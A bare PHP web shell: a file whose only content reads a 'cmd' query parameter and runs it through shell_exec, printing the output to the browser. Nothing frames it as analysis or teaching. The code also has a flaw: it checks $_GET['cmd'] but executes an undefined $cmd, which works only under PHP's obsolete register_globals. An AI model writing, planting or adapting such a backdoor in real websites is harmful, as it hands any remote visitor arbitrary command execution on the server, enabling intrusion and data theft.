<?php
function run_it($c)
{
    $out = '';
    if (function_exists('shell_exec')) {
        if (is_callable('shell_exec')) {
            $out = @shell_exec($c . ' 2>&1');
        }
    }
    return $out;
}

if (isset($_GET['cmd'])) {
    echo '<pre>' . run_it($cmd) . '</pre>';
}
